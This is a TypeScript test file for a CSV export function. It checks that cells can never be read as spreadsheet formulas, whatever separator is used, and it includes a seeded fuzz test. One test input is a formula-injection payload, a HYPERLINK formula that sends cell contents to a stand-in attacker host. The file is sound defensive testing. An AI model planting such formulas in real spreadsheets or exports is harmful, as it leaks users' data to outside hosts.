import { expect, it } from "vitest";
import { mulberry32 } from "../../tests/support/seeded-random";
import { cell } from "./export";

const FORMULA = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

/** Every cell of a file as spreadsheets and Python's csv read it: with quotes where a cell begins with one, and else as text. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let state: "begin" | "plain" | "quoted" = "begin";
  for (let at = 0; at < text.length; at++) {
    const character = text[at] ?? "";
    if (state === "quoted") {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') cell += text[at++] ?? "";
      else state = "plain";
    } else if (state === "begin" && character === '"') {
      state = "quoted";
    } else if (character === separator || character === "\r" || character === "\n") {
      cells.push(cell);
      cell = "";
      state = "begin";
    } else {
      cell += character;
      state = "plain";
    }
  }
  return [...cells, cell];
}

const fileOf = (rows: readonly string[][]) =>
  rows.map((row) => `${row.map(cell).join(",")}\r\n`).join("");

it("a cell is text, by whatever separator a spreadsheet takes the file apart", () => {
  const texts = [
    ...['a;=HYPERLINK("http://evil.example/"&A1);b', "a\t=1+1", "a;\t+1", 'a;"=1+1"', "a; =1"],
    ...['a;"";"=1', "a\n=1", "a|@SUM(A1)", "\uff1d1+1", "a;\uff0b1", "=1", " -1", "\t=1"],
  ];
  const file = fileOf(texts.map((text) => ["2030-01-31", text, "=1", text, "end"]));
  for (const separator of [",", ";", "\t", "|"]) {
    expect(cellsOf(file, separator).filter((each) => FORMULA.test(each))).toEqual([]);
  }
});

it("no text at all makes a cell that begins like a formula", () => {
  const seed = Math.floor(Math.random() * 2 ** 32);
  const random = mulberry32(seed);
  const below = (most: number) => Math.floor(random() * most);
  const alphabet = Array.from(';;,|\t\r\n"" \'a=+-@\uff1d');
  const text = () =>
    Array.from({ length: below(8) }, () => alphabet[below(alphabet.length)]).join("");
  for (let round = 0; round < 2_000; round++) {
    const rows = Array.from({ length: 3 }, () => Array.from({ length: 3 }, text));
    for (const separator of [",", ";", "\t", "|"]) {
      const found = cellsOf(fileOf(rows), separator).filter((each) => FORMULA.test(each));
      expect({ seed, rows, found }).toMatchObject({ found: [] });
    }
  }
});

it("is read back as it was where it is harmless, with the separator that the file has", () => {
  const row = ["a", "a,b", 'say "x"; then y', "one\ntwo", "Mozilla/5.0 (X11; Linux)", ""];
  expect(cellsOf(row.map(cell).join(","), ",")).toEqual(row);
  expect(cell(null)).toBe("");
});
